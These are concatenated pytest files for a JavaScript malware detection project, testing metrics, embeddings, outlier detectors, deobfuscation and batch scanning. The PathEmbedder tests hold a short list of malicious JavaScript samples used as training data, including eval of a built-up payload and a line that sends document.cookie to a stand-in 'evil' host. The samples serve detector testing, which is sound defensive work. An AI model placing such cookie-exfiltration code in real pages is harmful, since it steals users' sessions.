    def test_where_filter_selects_series(self):
        ring = TimeseriesRing(capacity=10)
        ring.append("shard-0", _families(4, ts_hint="500"), ts=100.0)
        ring.append("shard-0", _families(9, ts_hint="500"), ts=110.0)
        bad = ring.counter_delta(
            "shard-0", "repro_http_requests_total", 60.0,
            where=lambda labels: labels.get("status", "").startswith("5"),
        )
        assert bad == 5.0

    def test_window_uses_oldest_inside_not_refusing_young_rings(self):
        ring = TimeseriesRing(capacity=10)
        ring.append("shard-0", _families(10), ts=100.0)
        ring.append("shard-0", _families(20), ts=101.0)
        # Window far larger than the ring's span still answers.
        assert ring.counter_delta("shard-0", "repro_http_requests_total", 3600.0) == 10.0

    def test_single_snapshot_has_no_derivatives(self):
        ring = TimeseriesRing(capacity=10)
        ring.append("shard-0", _families(10), ts=100.0)
        assert ring.counter_delta("shard-0", "repro_http_requests_total", 60.0) is None
        assert ring.quantile("shard-0", "repro_http_request_seconds", 0.95, 60.0) is None

    def test_histogram_window_and_quantile(self):
        ring = TimeseriesRing(capacity=10)
        ring.append("shard-0", _families(0), ts=100.0)
        ring.append("shard-0", _families(10), ts=110.0)
        window = ring.histogram_window("shard-0", "repro_http_request_seconds", 60.0)
        assert window is not None
        assert window.count == 10.0
        assert window.rate == pytest.approx(1.0)
        # All observations were 0.05 — p95 lands inside the 0.1 bucket.
        q = ring.quantile("shard-0", "repro_http_request_seconds", 0.95, 60.0)
        assert q is not None and 0.0 < q <= 0.1

    def test_forget_drops_a_source(self):
        ring = TimeseriesRing(capacity=10)
        ring.append("shard-0", _families(1), ts=100.0)
        assert ring.sources == ["shard-0"]
        ring.forget("shard-0")
        assert ring.sources == []
        assert ring.latest("shard-0") is None

    def test_capacity_bounds_the_ring(self):
        ring = TimeseriesRing(capacity=3)
        for i in range(10):
            ring.append("shard-0", _families(i), ts=100.0 + i)
        pair = ring.window("shard-0", 3600.0)
        assert pair is not None
        assert pair[0].ts == 107.0  # oldest retained, not oldest ever

    def test_rejects_tiny_capacity(self):
        with pytest.raises(ValueError):
            TimeseriesRing(capacity=1)


class TestTimeseriesRingConcurrency:
    def test_concurrent_writers_and_readers_stay_consistent(self):
        """The scrape loop appends while /v1/status reads: no torn state.

        Four writer threads feed disjoint sources while four readers
        hammer every derivative; afterwards each source's ring must hold
        exactly the last ``capacity`` monotone snapshots.
        """
        ring = TimeseriesRing(capacity=16)
        n_appends = 200
        sources = [f"shard-{i}" for i in range(4)]
        errors: list[BaseException] = []
        stop = threading.Event()

        def writer(source: str) -> None:
            try:
                for i in range(n_appends):
                    ring.append(source, _families(i), ts=1000.0 + i)
            except BaseException as error:  # noqa: BLE001 - surfaced below
                errors.append(error)

        def reader() -> None:
            try:
                while not stop.is_set():
                    for source in sources:
                        ring.latest(source)
                        ring.counter_delta(source, "repro_http_requests_total", 60.0)
                        ring.counter_rate(source, "repro_http_requests_total", 60.0)
                        ring.quantile(source, "repro_http_request_seconds", 0.95, 60.0)
                        ring.sources
            except BaseException as error:  # noqa: BLE001 - surfaced below
                errors.append(error)

        writers = [threading.Thread(target=writer, args=(s,)) for s in sources]
        readers = [threading.Thread(target=reader) for _ in range(4)]
        for thread in readers + writers:
            thread.start()
        for thread in writers:
            thread.join()
        stop.set()
        for thread in readers:
            thread.join()

        assert not errors, errors
        for source in sources:
            latest = ring.latest(source)
            assert latest is not None and latest.ts == 1000.0 + n_appends - 1
            pair = ring.window(source, 3600.0)
            assert pair is not None
            # Oldest retained snapshot honors the capacity bound exactly.
            assert pair[0].ts == 1000.0 + n_appends - 16
            delta = ring.counter_delta(source, "repro_http_requests_total", 3600.0)
            assert delta == 15.0  # (n-1) - (n-16): monotone writer, clamped never
