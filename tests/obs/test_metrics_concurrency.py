"""Registry-level concurrency: many threads, exact totals.

The per-primitive thread-safety tests in ``test_metrics.py`` hammer one
child; this module hammers the *registry* — concurrent lookups of the
same families (the hot path every request takes) interleaved with
observations — and asserts exact totals, so a lost update or duplicated
child anywhere in the lock discipline fails loudly.
"""

import threading

from repro.obs import MetricsRegistry

N_THREADS = 8
N_ITERATIONS = 2_000


class TestRegistryConcurrency:
    def test_counters_and_histograms_exact_under_contention(self):
        registry = MetricsRegistry()
        barrier = threading.Barrier(N_THREADS)

        def hammer(worker: int):
            barrier.wait()  # maximize interleaving
            for i in range(N_ITERATIONS):
                # Lookup-then-mutate every iteration: exercises the
                # registry's child cache, not just the child's own lock.
                registry.counter("conc_requests_total").inc()
                registry.counter(
                    "conc_by_worker_total", labels={"worker": str(worker % 2)}
                ).inc(2)
                registry.histogram(
                    "conc_latency_seconds", buckets=(0.1, 1.0, 10.0)
                ).observe(0.5)
                registry.gauge("conc_depth").set(i)

        threads = [threading.Thread(target=hammer, args=(w,)) for w in range(N_THREADS)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

        total = N_THREADS * N_ITERATIONS
        assert registry.get("conc_requests_total").value == total
        by_worker_0 = registry.get("conc_by_worker_total", {"worker": "0"})
        by_worker_1 = registry.get("conc_by_worker_total", {"worker": "1"})
        assert by_worker_0.value + by_worker_1.value == 2 * total
        assert by_worker_0.value == by_worker_1.value  # 4 threads each
        histogram = registry.get("conc_latency_seconds")
        assert histogram.count == total
        assert histogram.sum == 0.5 * total
        assert dict(histogram.cumulative_buckets())[1.0] == total
        assert 0 <= registry.get("conc_depth").value < N_ITERATIONS

    def test_render_is_safe_during_writes(self):
        registry = MetricsRegistry()
        stop = threading.Event()
        errors: list[Exception] = []

        def write():
            while not stop.is_set():
                registry.counter("spin_total").inc()

        def render():
            try:
                for _ in range(200):
                    text = registry.render()
                    assert "spin_total" in text or text is not None
            except Exception as error:  # pragma: no cover - failure path
                errors.append(error)
            finally:
                stop.set()

        writers = [threading.Thread(target=write) for _ in range(4)]
        renderer = threading.Thread(target=render)
        for thread in writers:
            thread.start()
        renderer.start()
        renderer.join(timeout=60)
        stop.set()
        for thread in writers:
            thread.join(timeout=60)
        assert not errors
