"""Unit tests for the exposition parser (the federation's input side)."""

import math

import pytest

from repro.obs import (
    ExpositionError,
    MetricsRegistry,
    parse_exposition,
)


class TestParseExposition:
    def test_round_trips_a_registry_render(self):
        registry = MetricsRegistry()
        counter = registry.counter("demo_requests_total", "Requests", labels={"status": "200"})
        counter.inc(7)
        gauge = registry.gauge("demo_queue_depth", "Queue depth")
        gauge.set(3)
        histogram = registry.histogram("demo_latency_seconds", "Latency", buckets=(0.1, 1.0))
        histogram.observe(0.05)
        histogram.observe(0.5)

        families = parse_exposition(registry.render())

        assert families["demo_requests_total"].kind == "counter"
        assert families["demo_requests_total"].value({"status": "200"}) == 7.0
        assert families["demo_queue_depth"].kind == "gauge"
        assert families["demo_queue_depth"].value() == 3.0
        latency = families["demo_latency_seconds"]
        assert latency.kind == "histogram"
        assert latency.value(suffix="_count") == 2.0
        assert latency.value({"le": "0.1"}, suffix="_bucket") == 1.0
        assert latency.value({"le": "+Inf"}, suffix="_bucket") == 2.0

    def test_parses_exemplar_annotations(self):
        registry = MetricsRegistry()
        histogram = registry.histogram("demo_latency_seconds", "Latency", buckets=(0.1, 1.0))
        histogram.observe(0.5, trace_id="abc123")

        families = parse_exposition(registry.render())

        samples = [
            s for s in families["demo_latency_seconds"].samples
            if s.name.endswith("_bucket") and s.labels.get("le") == "1"
        ]
        assert len(samples) == 1
        assert samples[0].exemplar is not None
        assert samples[0].exemplar.trace_id == "abc123"
        assert samples[0].exemplar.value == 0.5

    def test_label_escapes_round_trip(self):
        registry = MetricsRegistry()
        counter = registry.counter(
            "demo_total", "Demo", labels={"path": 'a"b\\c\nd'}
        )
        counter.inc()
        families = parse_exposition(registry.render())
        assert families["demo_total"].value({"path": 'a"b\\c\nd'}) == 1.0

    def test_unannounced_samples_become_untyped(self):
        families = parse_exposition("mystery_metric 12\n")
        assert families["mystery_metric"].kind == "untyped"
        assert families["mystery_metric"].value() == 12.0

    def test_special_values(self):
        families = parse_exposition("a_metric +Inf\nb_metric NaN\nc_metric 1e-3\n")
        assert families["a_metric"].value() == float("inf")
        assert math.isnan(families["b_metric"].value())
        assert families["c_metric"].value() == pytest.approx(1e-3)

    @pytest.mark.parametrize(
        "bad",
        [
            "no_value_here\n",
            'unterminated{label="x 1\n',
            "not a metric line at all ! 3 4 5\n",
        ],
    )
    def test_rejects_garbage_lines(self, bad):
        with pytest.raises(ExpositionError):
            parse_exposition(bad)

    def test_histogram_sub_series_attach_to_family(self):
        text = (
            "# TYPE demo_seconds histogram\n"
            'demo_seconds_bucket{le="0.5"} 3\n'
            'demo_seconds_bucket{le="+Inf"} 4\n'
            "demo_seconds_sum 1.7\n"
            "demo_seconds_count 4\n"
        )
        families = parse_exposition(text)
        assert set(families) == {"demo_seconds"}
        assert families["demo_seconds"].value(suffix="_sum") == pytest.approx(1.7)
