"""Unit tests for the attention embedding model (forward + gradients)."""

import numpy as np
import pytest

from repro.embedding import Adam, AttentionEmbeddingModel


def tiny_model(seed=0):
    return AttentionEmbeddingModel(input_dim=6, embed_dim=4, seed=seed)


class TestForward:
    def test_shapes(self):
        model = tiny_model()
        paths = np.random.default_rng(0).normal(size=(5, 6))
        embedded, weights, vector, probs = model.forward(paths)
        assert embedded.shape == (5, 4)
        assert weights.shape == (5,)
        assert vector.shape == (4,)
        assert probs.shape == (2,)

    def test_attention_weights_are_distribution(self):
        model = tiny_model()
        paths = np.random.default_rng(1).normal(size=(7, 6))
        _, weights, _, _ = model.forward(paths)
        assert np.all(weights > 0)
        assert weights.sum() == pytest.approx(1.0)

    def test_probs_are_distribution(self):
        model = tiny_model()
        paths = np.random.default_rng(2).normal(size=(3, 6))
        probs = model.predict_proba(paths)
        assert probs.sum() == pytest.approx(1.0)

    def test_embeddings_bounded_by_tanh(self):
        model = tiny_model()
        paths = np.random.default_rng(3).normal(scale=10.0, size=(4, 6))
        embedded, _, _, _ = model.forward(paths)
        assert np.all(np.abs(embedded) <= 1.0)

    def test_empty_paths_rejected(self):
        with pytest.raises(ValueError):
            tiny_model().forward(np.zeros((0, 6)))

    def test_wrong_width_rejected(self):
        with pytest.raises(ValueError):
            tiny_model().forward(np.zeros((3, 5)))


class TestGradients:
    def test_numerical_gradient_check(self):
        """Analytic gradients match central finite differences."""
        model = tiny_model(seed=3)
        rng = np.random.default_rng(4)
        paths = rng.normal(size=(4, 6))
        label = 1
        _, grads = model.loss_and_grad(paths, label)

        eps = 1e-6
        for name, grad in (("W", grads.W), ("a", grads.a), ("U", grads.U), ("b", grads.b)):
            param = model.parameters()[name]
            flat_indices = [tuple(idx) for idx in np.argwhere(np.ones_like(param))][:10]
            for idx in flat_indices:
                original = param[idx]
                param[idx] = original + eps
                loss_plus, _ = model.loss_and_grad(paths, label)
                param[idx] = original - eps
                loss_minus, _ = model.loss_and_grad(paths, label)
                param[idx] = original
                numeric = (loss_plus - loss_minus) / (2 * eps)
                analytic = grad[idx] if grad.ndim else grad
                assert numeric == pytest.approx(analytic, rel=1e-3, abs=1e-6), f"{name}[{idx}]"

    def test_training_reduces_loss(self):
        model = tiny_model(seed=5)
        rng = np.random.default_rng(6)
        # Two script populations with distinct path statistics.
        scripts = [(rng.normal(+1.0, 0.3, size=(6, 6)), 1) for _ in range(10)]
        scripts += [(rng.normal(-1.0, 0.3, size=(6, 6)), 0) for _ in range(10)]
        optimizer = Adam(model, lr=5e-3)

        def epoch_loss():
            return sum(model.loss_and_grad(p, y)[0] for p, y in scripts)

        before = epoch_loss()
        for _ in range(30):
            for paths, label in scripts:
                _, grads = model.loss_and_grad(paths, label)
                optimizer.step(grads)
        assert epoch_loss() < before * 0.5

    def test_load_and_dump_parameters(self):
        model = tiny_model(seed=7)
        saved = {k: v.copy() for k, v in model.parameters().items()}
        other = tiny_model(seed=99)
        other.load_parameters(saved)
        paths = np.random.default_rng(8).normal(size=(3, 6))
        assert np.allclose(model.predict_proba(paths), other.predict_proba(paths))

    def test_invalid_dims_rejected(self):
        with pytest.raises(ValueError):
            AttentionEmbeddingModel(input_dim=0)
