"""Unit tests for the PathEmbedder pre-training protocol."""

import numpy as np
import pytest

from repro.embedding import PathEmbedder
from repro.paths import extract_paths

BENIGN_SNIPPETS = [
    "function setup(opts) { var controls = opts.controls; return controls; }",
    "var list = [1, 2, 3]; for (var i = 0; i < 3; i++) { render(list[i]); }",
    "function add(a, b) { return a + b; } var total = add(1, 2);",
    "var cfg = { width: 100, height: 50 }; draw(cfg.width, cfg.height);",
]

MALICIOUS_SNIPPETS = [
    "var payload = 'ab' + 'cd'; eval(payload);",
    "var h = '68'; var e = '65'; document.write(unescape('%' + h + '%' + e));",
    "var s = str.charCodeAt(0) ^ 42; out[0] = String.fromCharCode(s);",
    "var u = 'http://evil'; window.location = u + '/x?' + document.cookie;",
]


def corpus():
    scripts = [extract_paths(s) for s in BENIGN_SNIPPETS + MALICIOUS_SNIPPETS]
    labels = [0] * len(BENIGN_SNIPPETS) + [1] * len(MALICIOUS_SNIPPETS)
    return scripts, labels


class TestFit:
    def test_history_recorded(self):
        scripts, labels = corpus()
        embedder = PathEmbedder(embed_dim=16, epochs=3, seed=0)
        embedder.fit(scripts, labels)
        assert len(embedder.history.losses) == 3
        assert embedder.is_trained

    def test_loss_decreases(self):
        scripts, labels = corpus()
        embedder = PathEmbedder(embed_dim=16, epochs=15, lr=3e-3, seed=0)
        embedder.fit(scripts, labels)
        assert embedder.history.losses[-1] < embedder.history.losses[0]

    def test_mismatched_lengths_rejected(self):
        with pytest.raises(ValueError):
            PathEmbedder(embed_dim=8, epochs=1).fit([[]], [0, 1])

    def test_all_empty_scripts_rejected(self):
        with pytest.raises(ValueError):
            PathEmbedder(embed_dim=8, epochs=1).fit([[], []], [0, 1])


class TestEmbed:
    def test_embed_shapes(self):
        scripts, labels = corpus()
        embedder = PathEmbedder(embed_dim=16, epochs=2, seed=0).fit(scripts, labels)
        contexts = extract_paths("var q = 1; use(q);")
        vectors, weights = embedder.embed(contexts)
        assert vectors.shape == (len(contexts), 16)
        assert weights.shape == (len(contexts),)
        assert weights.sum() == pytest.approx(1.0)

    def test_empty_script_embeds_empty(self):
        scripts, labels = corpus()
        embedder = PathEmbedder(embed_dim=16, epochs=1, seed=0).fit(scripts, labels)
        vectors, weights = embedder.embed([])
        assert vectors.shape == (0, 16)
        assert weights.shape == (0,)

    def test_path_cap_respected_in_training(self):
        scripts, labels = corpus()
        embedder = PathEmbedder(embed_dim=8, epochs=1, seed=0, max_paths_per_script=5)
        embedder.fit(scripts, labels)  # must not error on big scripts
        assert embedder.is_trained

    def test_deterministic_given_seed(self):
        scripts, labels = corpus()
        e1 = PathEmbedder(embed_dim=8, epochs=2, seed=42).fit(scripts, labels)
        e2 = PathEmbedder(embed_dim=8, epochs=2, seed=42).fit(scripts, labels)
        contexts = extract_paths("var z = 3; f(z);")
        v1, w1 = e1.embed(contexts)
        v2, w2 = e2.embed(contexts)
        assert np.allclose(v1, v2)
        assert np.allclose(w1, w2)
