"""Unit tests for outlier detectors (FastABOD, LOF, kNN, IsolationForest)."""

import numpy as np
import pytest

from repro.outliers import FastABOD, IsolationForest, KNNOutlier, LOF


def cloud_with_outliers(rng, n_inliers=80, n_outliers=5, spread=12.0):
    """A dense Gaussian cloud plus far-away outliers; outliers come last."""
    inliers = rng.normal(0.0, 1.0, size=(n_inliers, 3))
    directions = rng.normal(size=(n_outliers, 3))
    directions /= np.linalg.norm(directions, axis=1, keepdims=True)
    outliers = directions * spread
    return np.vstack([inliers, outliers])


DETECTORS = [
    lambda: FastABOD(n_neighbors=10, contamination=0.08),
    lambda: LOF(n_neighbors=10, contamination=0.08),
    lambda: KNNOutlier(n_neighbors=10, method="mean", contamination=0.08),
    lambda: KNNOutlier(n_neighbors=10, method="largest", contamination=0.08),
    lambda: IsolationForest(n_estimators=40, random_state=0, contamination=0.08),
]


@pytest.mark.parametrize("factory", DETECTORS, ids=["abod", "lof", "knn_mean", "knn_max", "iforest"])
class TestAllDetectors:
    def test_flags_planted_outliers(self, factory):
        X = cloud_with_outliers(np.random.default_rng(0))
        detector = factory().fit(X)
        flagged = np.flatnonzero(detector.labels_)
        planted = set(range(80, 85))
        # At least 4 of the 5 planted outliers must be caught.
        assert len(planted & set(flagged.tolist())) >= 4

    def test_scores_higher_for_outliers(self, factory):
        X = cloud_with_outliers(np.random.default_rng(1))
        detector = factory().fit(X)
        scores = detector.decision_scores_
        assert scores[80:].mean() > scores[:80].mean()

    def test_contamination_controls_flag_count(self, factory):
        X = cloud_with_outliers(np.random.default_rng(2), n_inliers=90, n_outliers=10)
        detector = factory()
        detector.contamination = 0.1
        detector.fit(X)
        flagged = int(detector.labels_.sum())
        assert 5 <= flagged <= 15  # roughly the contamination fraction

    def test_inliers_helper_removes_rows(self, factory):
        X = cloud_with_outliers(np.random.default_rng(3))
        detector = factory()
        kept = detector.inliers(X)
        assert len(kept) < len(X)
        assert kept.shape[1] == X.shape[1]


class TestValidation:
    def test_bad_contamination(self):
        with pytest.raises(ValueError):
            FastABOD(contamination=0.7)

    def test_bad_neighbors(self):
        with pytest.raises(ValueError):
            FastABOD(n_neighbors=1)
        with pytest.raises(ValueError):
            LOF(n_neighbors=0)

    def test_one_sample_rejected(self):
        with pytest.raises(ValueError):
            FastABOD().fit(np.zeros((1, 3)))

    def test_1d_input_rejected(self):
        with pytest.raises(ValueError):
            LOF().fit(np.zeros(10))

    def test_knn_bad_method(self):
        with pytest.raises(ValueError):
            KNNOutlier(method="median")


class TestABODSpecifics:
    def test_angle_variance_small_for_isolated_point(self):
        rng = np.random.default_rng(4)
        cluster = rng.normal(0, 1, size=(30, 2))
        isolated = np.array([[30.0, 30.0]])
        X = np.vstack([cluster, isolated])
        detector = FastABOD(n_neighbors=8, contamination=0.05).fit(X)
        # Negated variance: the isolated point must have the max score.
        assert int(np.argmax(detector.decision_scores_)) == 30

    def test_duplicate_points_do_not_crash(self):
        X = np.vstack([np.zeros((20, 2)), [[5.0, 5.0]]])
        FastABOD(n_neighbors=5, contamination=0.1).fit(X)
