"""Unit tests for the MetaOD-style detector selector."""

import numpy as np

from repro.outliers import FastABOD, MetaFeatures, select_detector


def embedding_like_cloud(rng, n=150, d=8, clusters=3):
    """Clustered, dense point cloud resembling path-embedding vectors."""
    centers = rng.normal(0.0, 3.0, size=(clusters, d))
    points = [rng.normal(centers[i % clusters], 0.6, size=d) for i in range(n)]
    return np.asarray(points)


class TestSelection:
    def test_returns_a_fitted_detector(self):
        X = embedding_like_cloud(np.random.default_rng(0))
        result = select_detector(X, contamination=0.1)
        assert result.best_detector.labels_ is not None
        assert result.best_name in result.consensus_scores

    def test_consensus_scores_cover_all_candidates(self):
        X = embedding_like_cloud(np.random.default_rng(1))
        result = select_detector(X)
        assert set(result.consensus_scores) == {"fast_abod", "lof", "knn_mean", "knn_largest", "iforest"}

    def test_best_is_near_tie_of_max_consensus(self):
        """The winner is within the tie margin of the top consensus score."""
        X = embedding_like_cloud(np.random.default_rng(2))
        result = select_detector(X)
        top = max(result.consensus_scores.values())
        assert result.consensus_scores[result.best_name] >= top - 0.08 - 1e-12

    def test_subsampling_respected(self):
        X = embedding_like_cloud(np.random.default_rng(3), n=900)
        result = select_detector(X, max_samples=100)
        assert result.meta_features.n_samples == 100

    def test_abod_wins_on_embedding_like_data(self):
        """On clustered embedding clouds the paper's outcome (MetaOD picked
        FastABOD) is reproduced via the benchmark-derived tie-break prior."""
        X = embedding_like_cloud(np.random.default_rng(4), n=200)
        result = select_detector(X)
        assert result.best_name == "fast_abod"

    def test_custom_candidate_zoo(self):
        X = embedding_like_cloud(np.random.default_rng(5))
        result = select_detector(X, candidates={"only": lambda: FastABOD(contamination=0.1)})
        assert result.best_name == "only"


class TestMetaFeatures:
    def test_shapes_recorded(self):
        X = np.random.default_rng(0).normal(size=(50, 4))
        mf = MetaFeatures.of(X)
        assert mf.n_samples == 50
        assert mf.n_features == 4

    def test_skew_positive_for_skewed_data(self):
        rng = np.random.default_rng(1)
        X = rng.exponential(size=(500, 2))
        assert MetaFeatures.of(X).mean_abs_skew > 0.5

    def test_correlation_detected(self):
        rng = np.random.default_rng(2)
        a = rng.normal(size=500)
        X = np.column_stack([a, a + rng.normal(scale=0.01, size=500)])
        assert MetaFeatures.of(X).mean_feature_correlation > 0.9
