"""Scanner integration for the deobfuscation pre-pass.

The load-bearing invariant: with the pass enabled, a clean script's
verdict is identical to a pass-off scan in every field except measured
wall-clock timings, while an obfuscated script carries a
``normalization`` report in its result, provenance, and trace.
"""

from pathlib import Path

import pytest

from repro.core import JSRevealer, JSRevealerConfig
from repro.datasets import experiment_split
from repro.deobfuscate import Deobfuscator
from repro.obs import Tracer
from repro.pipeline import BatchScanner, FeatureCache

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
OBFUSCATED = (EXAMPLES / "obfuscated" / "obfuscator_io.js").read_text()
CLEAN = (EXAMPLES / "corpus" / "vendor_0.js").read_text()

#: Result fields that measure wall-clock time and so differ between any
#: two runs of the same scan; everything else must match exactly.
TIMING_KEYS = {"stage_ms"}


def strip_timings(result_dict):
    out = {k: v for k, v in result_dict.items() if k not in TIMING_KEYS}
    norm = out.get("normalization")
    if isinstance(norm, dict):
        out["normalization"] = {k: v for k, v in norm.items() if k != "elapsed_ms"}
    return out


@pytest.fixture(scope="module")
def split():
    return experiment_split(seed=7, pretrain_per_class=6, train_per_class=12, test_per_class=8)


@pytest.fixture(scope="module")
def detector(split):
    det = JSRevealer(JSRevealerConfig(embed_dim=16, pretrain_epochs=3, k_benign=4, k_malicious=4, seed=7))
    det.pretrain(split.pretrain.sources, split.pretrain.labels)
    det.fit(split.train.sources, split.train.labels)
    return det


class TestCleanByteIdentity:
    def test_clean_verdicts_identical_with_pass_enabled(self, detector):
        plain = BatchScanner(detector).scan([CLEAN], names=["clean.js"])
        passed = BatchScanner(detector, deobfuscate=Deobfuscator()).scan(
            [CLEAN], names=["clean.js"]
        )
        a = strip_timings(plain.results[0].to_dict())
        b = strip_timings(passed.results[0].to_dict())
        assert a == b
        assert passed.results[0].normalization is None

    def test_clean_report_has_no_deobfuscate_stage_time(self, detector):
        passed = BatchScanner(detector, deobfuscate=Deobfuscator()).scan([CLEAN])
        assert "deobfuscate" not in passed.results[0].stage_ms


class TestObfuscatedAnnotations:
    def test_normalization_attached_to_result(self, detector):
        report = BatchScanner(detector, deobfuscate=Deobfuscator()).scan(
            [OBFUSCATED], names=["obf.js"]
        )
        norm = report.results[0].normalization
        assert norm is not None
        assert norm["changed"] is True
        assert norm["rewrites"].get("string_array", 0) >= 1
        assert report.results[0].to_dict()["normalization"] == norm

    def test_batch_stage_totals_include_deobfuscate(self, detector):
        report = BatchScanner(detector, deobfuscate=Deobfuscator()).scan([OBFUSCATED, CLEAN])
        assert "deobfuscate" in report.stage_ms

    def test_pass_off_results_carry_no_normalization(self, detector):
        report = BatchScanner(detector).scan([OBFUSCATED])
        assert report.results[0].normalization is None
        assert "normalization" not in report.results[0].to_dict()

    def test_obfuscated_variants_dedup_to_one_cache_entry(self, detector):
        """Normalization runs before content keying, so two obfuscated
        spellings of one payload share a cache entry."""
        variant_a = 'var u = "h" + "i";\nfetch(u);\n'
        variant_b = 'var u = "\\x68\\x69";\nfetch(u);\n'
        scanner = BatchScanner(
            detector, cache=FeatureCache(detector.fingerprint()), deobfuscate=Deobfuscator()
        )
        first = scanner.scan([variant_a])
        second = scanner.scan([variant_b])
        assert first.results[0].probability == second.results[0].probability
        assert second.results[0].cache_hit


class TestTracedScan:
    def test_deobfuscate_span_and_provenance(self, detector):
        tracer = Tracer(sample_rate=1.0)
        report = BatchScanner(detector, tracer=tracer, deobfuscate=Deobfuscator()).scan(
            [OBFUSCATED], names=["obf.js"]
        )
        trace = report.results[0].trace
        assert trace is not None
        assert trace["provenance"]["normalization"]["changed"] is True

    def test_degraded_normalization_marks_span_error(self, detector, monkeypatch):
        monkeypatch.setenv("REPRO_FAULT_INJECT", "1")
        source = '/* @repro-fault:raise@deobfuscate */\nvar u = "h" + "i";\n'
        report = BatchScanner(detector, deobfuscate=Deobfuscator()).scan([source])
        norm = report.results[0].normalization
        assert norm is not None
        assert norm["degraded"] is True
        # The scan itself still completes with a real verdict.
        assert report.results[0].verdict in ("benign", "malicious")
