"""Unit tests for the structured ScanResult / ScanReport API."""

import json

import numpy as np

from repro.pipeline import ScanReport, ScanResult


def make_result(i=0, malicious=False, cache_hit=False):
    return ScanResult(
        path=f"file_{i}.js",
        label=int(malicious),
        probability=0.9 if malicious else 0.1,
        malicious=malicious,
        path_count=10 + i,
        cache_hit=cache_hit,
        stage_ms={"path_extraction": 12.5, "embedding": 3.25},
    )


def make_report():
    return ScanReport(
        results=[make_result(0), make_result(1, malicious=True, cache_hit=True)],
        threshold=0.5,
        n_workers=4,
        workers_used=4,
        elapsed_ms=120.0,
        stage_ms={"path_extraction": 20.0, "embedding": 5.0, "feature_transform": 1.0, "classifying": 0.5},
        cache_hits=1,
        cache_misses=1,
        cache_stats={"hits": 5, "misses": 7, "disk_hits": 0, "evictions": 2, "entries": 5},
        model_fingerprint="abc123",
    )


class TestScanResult:
    def test_verdict_string(self):
        assert make_result(malicious=True).verdict == "malicious"
        assert make_result(malicious=False).verdict == "benign"

    def test_dict_roundtrip(self):
        result = make_result(3, malicious=True)
        data = result.to_dict()
        assert data["verdict"] == "malicious"
        assert ScanResult.from_dict(data) == result


class TestScanReport:
    def test_array_views(self):
        report = make_report()
        assert np.array_equal(report.label_array, [0, 1])
        assert np.allclose(report.probabilities, [0.1, 0.9])
        assert report.n_files == 2
        assert report.n_malicious == 1

    def test_json_roundtrip(self):
        report = make_report()
        restored = ScanReport.from_json(report.to_json())
        assert restored.results == report.results
        assert restored.stage_ms == report.stage_ms
        assert restored.cache_hits == 1 and restored.cache_misses == 1
        assert restored.model_fingerprint == "abc123"
        assert restored.workers_used == 4
        assert restored.cache_stats == report.cache_stats

    def test_json_is_machine_readable(self):
        data = json.loads(make_report().to_json())
        assert data["n_files"] == 2
        assert data["n_malicious"] == 1
        assert {r["verdict"] for r in data["results"]} == {"benign", "malicious"}
        for key in ("stage_ms", "cache_hits", "model_fingerprint", "threshold"):
            assert key in data

    def test_probability_matrix_not_serialized(self):
        report = make_report()
        report.probability_matrix = np.zeros((2, 2))
        assert "probability_matrix" not in json.loads(report.to_json())

    def test_summary_mentions_counts_and_cache(self):
        summary = make_report().summary()
        assert "2 files" in summary
        assert "1 hits" in summary

    def test_summary_includes_lifetime_cache_stats(self):
        summary = make_report().summary()
        assert "lifetime 5h/7m" in summary
        assert "2 evictions" in summary
        assert "5 entries" in summary

    def test_cache_stats_optional(self):
        report = make_report()
        report.cache_stats = None
        assert "lifetime" not in report.summary()
        assert ScanReport.from_json(report.to_json()).cache_stats is None

    def test_empty_report(self):
        report = ScanReport(results=[])
        assert report.n_files == 0
        assert report.label_array.shape == (0,)
        assert ScanReport.from_json(report.to_json()).n_files == 0
