"""Integration tests for the parallel batch scanner and cache wiring."""

import numpy as np
import pytest

from repro.core import JSRevealer, JSRevealerConfig
from repro.datasets import experiment_split
from repro.obs import MetricsRegistry
from repro.pipeline import BatchScanner, FeatureCache


@pytest.fixture(scope="module")
def split():
    return experiment_split(seed=7, pretrain_per_class=6, train_per_class=12, test_per_class=8)


@pytest.fixture(scope="module")
def detector(split):
    det = JSRevealer(JSRevealerConfig(embed_dim=16, pretrain_epochs=3, k_benign=4, k_malicious=4, seed=7))
    det.pretrain(split.pretrain.sources, split.pretrain.labels)
    det.fit(split.train.sources, split.train.labels)
    return det


class TestParallelEquivalence:
    def test_parallel_matches_sequential_bytewise(self, detector, split):
        sequential = BatchScanner(detector, n_workers=1).scan(split.test.sources)
        parallel = BatchScanner(detector, n_workers=2).scan(split.test.sources)
        assert parallel.workers_used == 2
        assert np.array_equal(sequential.label_array, parallel.label_array)
        assert np.array_equal(sequential.probability_matrix, parallel.probability_matrix)
        assert [r.path_count for r in sequential.results] == [r.path_count for r in parallel.results]

    def test_pool_failure_degrades_to_sequential(self, detector, split, monkeypatch, capsys):
        def boom(self, *args, **kwargs):
            raise OSError("no processes for you")

        monkeypatch.setattr(BatchScanner, "_embed_parallel", boom)
        baseline = BatchScanner(detector, n_workers=1).scan(split.test.sources[:4])
        degraded = BatchScanner(detector, n_workers=3).scan(split.test.sources[:4])
        assert degraded.workers_used == 1
        assert np.array_equal(baseline.label_array, degraded.label_array)
        assert "scanning sequentially" in capsys.readouterr().err

    def test_rejects_bad_worker_count(self, detector):
        with pytest.raises(ValueError):
            BatchScanner(detector, n_workers=0)

    def test_unfitted_detector_rejected(self):
        det = JSRevealer(JSRevealerConfig(embed_dim=16))
        with pytest.raises(RuntimeError):
            BatchScanner(det).scan(["var a = 1;"])

    def test_names_length_mismatch(self, detector):
        with pytest.raises(ValueError):
            BatchScanner(detector).scan(["var a = 1;"], names=["a", "b"])

    def test_empty_batch(self, detector):
        report = BatchScanner(detector).scan([])
        assert report.n_files == 0 and report.label_array.shape == (0,)

    def test_unparseable_source_scans(self, detector):
        report = BatchScanner(detector).scan(["not !! valid :: javascript ((("])
        assert report.n_files == 1
        assert report.results[0].path_count == 0


class TestCacheIntegration:
    def test_second_scan_hits(self, detector, split):
        cache = FeatureCache(detector.fingerprint())
        scanner = BatchScanner(detector, cache=cache)
        first = scanner.scan(split.test.sources)
        second = scanner.scan(split.test.sources)
        assert first.cache_hits == 0 and first.cache_misses == len(split.test.sources)
        assert second.cache_hits == len(split.test.sources) and second.cache_misses == 0
        assert all(r.cache_hit for r in second.results)
        assert np.array_equal(first.probability_matrix, second.probability_matrix)

    def test_disk_cache_reused_by_fresh_scanner(self, detector, split, tmp_path):
        sources = split.test.sources[:5]
        cold = detector.scan_batch(sources, cache_dir=str(tmp_path))
